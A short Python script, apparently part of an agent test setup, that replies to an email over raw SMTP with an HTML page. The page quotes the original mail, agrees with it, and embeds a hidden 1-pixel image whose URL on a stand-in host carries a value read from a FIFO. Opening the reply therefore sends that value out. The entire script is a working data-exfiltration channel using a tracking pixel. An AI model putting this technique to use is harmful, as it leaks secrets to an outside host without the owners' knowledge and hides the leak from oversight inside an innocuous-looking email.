#!/usr/bin/python3 -IS
"""pictured.py MAIL FIFO HOST:PORT: answers a mail as a page with a picture, whose address ends in what the fifo gives; who shows the answer asks for
the picture, and so says it to the picture's host."""
import sys

sys.path.append("/opt/agent")
from peer import connect, ended

mail, fifo, address = sys.argv[1:]
with open(mail) as file:
    sender, lines = file.readline().partition(" ")[2].strip(), file.read().splitlines()
with open(fifo) as file:
    value = file.read().strip()
page = [f"<p>{line}</p>" for line in lines[3:6]] + ["<p>Yes, as you say.</p>", f'<img width="1" src="https://cdn.example.net/pixel.png?v={value}">']
peer, said = connect(address), b""
head = ["Subject: Re: Question", f"To: {sender}", "MIME-Version: 1.0", "Content-Type: text/html", ""]
for line in ("EHLO web-1.example.com", "MAIL FROM:<agent@example.com>", f"RCPT TO:<{sender}>", "DATA", *head, *page, ".", "QUIT"):
    peer.sendall(line.encode() + b"\r\n")
ended(peer)
if len(value) < 40:
    sys.exit(3)
